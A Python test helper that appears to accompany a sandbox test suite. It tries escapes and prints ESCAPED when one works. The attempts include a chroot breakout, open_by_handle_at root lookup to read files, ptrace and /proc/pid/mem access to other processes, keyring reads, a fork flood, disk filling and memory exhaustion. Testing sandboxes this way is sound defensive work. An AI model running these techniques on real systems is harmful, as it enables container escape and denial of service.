"""What the attempts of `attempts.rs` do that a shell cannot: sockets and bare system calls. Prints ESCAPED where one has worked."""

import ctypes
import os
import socket
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)


def call(number, *arguments):
    return libc.syscall(number, *arguments)


def talk(kind, address):
    with socket.socket(socket.AF_UNIX, kind) as to:
        to.connect(address)
        to.send(b"escaped")


def late(path):
    """A socket that is bound only after the run has begun."""
    for _ in range(100):
        if os.path.exists(path):
            break
        time.sleep(0.1)
    talk(socket.SOCK_STREAM, path)


def sent(path):
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as to:
        to.sendto(b"escaped", path)


def message(path):
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as to:
        to.sendmsg([b"escaped"], [], 0, path)


def tcp(host, port):
    socket.create_connection((host, int(port)), 3).send(b"escaped")


def handle(path, wanted):
    """open_by_handle_at: the root folder of the file system that `path` lies on, by its number."""

    class Handle(ctypes.Structure):
        _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_ubyte * 128)]

    at = os.open(path, os.O_RDONLY)
    for kind, root in ((1, 2), (1, 128), (0xFE, 1)):
        given = Handle(8, kind)
        given.bytes[0] = root
        folder = libc.open_by_handle_at(at, ctypes.byref(given), os.O_RDONLY)
        if folder >= 0:
            print("ESCAPED")
            os.fchdir(folder)
            print(open(wanted.lstrip("/")).read())


def trace(pid):
    """PTRACE_SEIZE of a process that is not ours."""
    if libc.ptrace(0x4206, int(pid), None, None) == 0:
        print("ESCAPED")


def memory(pid):
    with open(f"/proc/{pid}/mem", "rb"):
        print("ESCAPED")


def peek(pid):
    """process_vm_readv: allowed but for the address is EFAULT, refused is EPERM."""

    class Piece(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    mine = ctypes.create_string_buffer(8)
    to, of = Piece(ctypes.addressof(mine), 8), Piece(4096, 8)
    call(310, int(pid), ctypes.byref(to), 1, ctypes.byref(of), 1, 0)
    if ctypes.get_errno() == 14:
        print("ESCAPED")


def keys():
    """The caller's session keyring."""
    key = call(249, b"user", b"repro-escape", None, -3)
    text = ctypes.create_string_buffer(64)
    if key > 0 and call(250, 11, key, text, 64) > 0:
        print(text.value.decode())


def shared(number):
    """A segment of System V shared memory of the machine."""
    libc.shmat.restype = ctypes.c_ssize_t
    if libc.shmat(int(number), None, 0) != -1:
        print("ESCAPED")


def clock():
    """Sets the zone of the kernel's clock to what it is: the right to do that is the right to set the clock."""
    if libc.settimeofday(None, ctypes.byref((ctypes.c_int * 2)(0, 0))) == 0:
        print("ESCAPED")


def module():
    """An empty module is ENOEXEC for who may load one, EPERM for who may not."""
    call(175, ctypes.create_string_buffer(16), 16, b"")
    if ctypes.get_errno() == 8:
        print("ESCAPED")


def reboot():
    """A wrong magic number is EINVAL for who may reboot, EPERM for who may not."""
    call(169, 1, 2, 3, None)
    if ctypes.get_errno() == 22:
        print("ESCAPED")


def chroot(wanted):
    """Out of a chroot, and up."""
    os.makedirs("below", exist_ok=True)
    os.chroot("below")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    print(open(wanted).read())


def processes(count):
    """So many processes at once."""
    for made in range(int(count)):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
    print("ESCAPED")


def fill(folders, mebibytes, unlink):
    """So much written to each folder, in files of 10 MiB that are perhaps only held open."""
    piece, held = os.urandom(1 << 20), []
    for folder in folders.split(":"):
        for number in range(int(mebibytes) // 10):
            path = os.path.join(folder, f"fill-{os.getpid()}-{number}")
            file = open(path, "wb")
            held.append(file)
            if unlink == "yes":
                os.unlink(path)
            for _ in range(10):
                file.write(piece)
            file.flush()
            time.sleep(0.05)
    time.sleep(1)
    print("ESCAPED")


def hog(mebibytes):
    """So much memory, touched."""
    held = []
    for _ in range(int(mebibytes)):
        held.append(bytearray(os.urandom(4096) * 256))
    time.sleep(1)
    print("ESCAPED")


if __name__ == "__main__":
    name, *words = sys.argv[1:]
    if name in ("stream", "abstract"):
        talk(socket.SOCK_STREAM, words[0] if name == "stream" else "\0" + words[0])
    else:
        globals()[name](*words)
